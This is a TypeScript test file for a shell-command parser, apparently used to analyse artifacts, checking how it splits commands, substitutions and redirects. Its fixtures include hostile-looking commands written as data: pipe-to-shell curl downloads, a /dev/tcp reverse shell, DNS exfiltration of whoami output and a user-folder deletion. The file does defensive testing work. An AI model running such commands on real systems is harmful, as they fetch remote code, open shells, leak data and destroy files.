import assert from 'node:assert/strict';
import fc from 'fast-check';
import { shellCommands } from '../../../../server/src/artifacts/analysis/shell/words.js';

/** `after words… redirects…`, one a command. */
const read = (text: string): readonly string[] =>
  shellCommands(text).map(({ after, words, redirects }) => [after, ...words, ...redirects].join(' ').trim());

describe('shellCommands', () => {
  const cases: readonly (readonly [string, readonly string[]])[] = [
    ['node a.js', ['node a.js']],
    ['a && b || c; d & e | f', ['a', '&& b', '|| c', '; d', '& e', '| f']],
    ['a\nb # not this\nc', ['a', '\n b', '\n c'].map((line) => line.trim())],
    [`node -e "require('./x')"`, [`node -e require('./x')`]],
    [`echo 'a; b' "c | d" e\\ f`, ['echo a; b c | d e f']],
    ['curl -o out http://h/a?b=1 >log 2>&1', ['curl -o out http://h/a?b=1 >log >&1']],
    ['sh -c "$(curl -fsSL http://h/i)"', ['( curl -fsSL http://h/i', 'sh -c $(curl -fsSL http://h/i)']],
    ['bash <(curl -s http://h)', ['( curl -s http://h', 'bash <(curl -s http://h)']],
    ['(a || b) 2>log | c; { d; e; } | f', ['a', '|| b', ') >log', '| c', '; d', '; e', '| f']],
    ['run \\\\host\\share\\a.exe', ['run \\\\host\\share\\a.exe']],
    ['nslookup `whoami`.h', ['( whoami', 'nslookup $(whoami).h']],
    ['bash -i >& /dev/tcp/h/80 0>&1', ['bash -i >&/dev/tcp/h/80 >&1']],
    ['start /B node a.js & node a.js', ['start /B node a.js', '& node a.js']],
    ['del C:\\Users\\me', ['del C:\\Users\\me']],
  ];
  for (const [text, expected] of cases) {
    it(`reads ${JSON.stringify(text)}`, () =>
      assert.deepEqual(
        read(text).map((line) => line.trim()),
        expected,
      ));
  }

  it('knows where a command stands, substituted ones too', () => {
    const text = 'true && sh -c "$(curl http://h)"';
    assert.deepEqual(
      shellCommands(text).map(({ offset }) => text.slice(offset, offset + 2)),
      ['tr', 'cu', 'sh'],
    );
  });

  it('reads any text to its end', () => {
    const text = fc.string({
      unit: fc.constantFrom(
        'a',
        'b',
        '$',
        '(',
        ')',
        '<',
        '>',
        '`',
        '"',
        "'",
        '\\',
        '|',
        '&',
        ';',
        ' ',
        '\n',
        '#',
        '{',
        '2',
        '-',
      ),
      maxLength: 200,
    });
    fc.assert(
      fc.property(text, (given) => {
        for (const { offset } of shellCommands(given)) assert.ok(offset >= 0 && offset <= given.length);
      }),
      { numRuns: 1000 },
    );
  });

  it('goes on behind what is neither a word nor a redirection', () => {
    assert.deepEqual(read('a &>(b) c'), ['( b', 'a >(b) c']);
  });

  it('ends with what is nested a hundred deep, and with a million operators', () => {
    assert.ok(shellCommands(`${'$('.repeat(100)}curl${')'.repeat(100)}`).length < 20);
    assert.ok(shellCommands('a;'.repeat(1_000_000)).length <= 2001);
  });
});
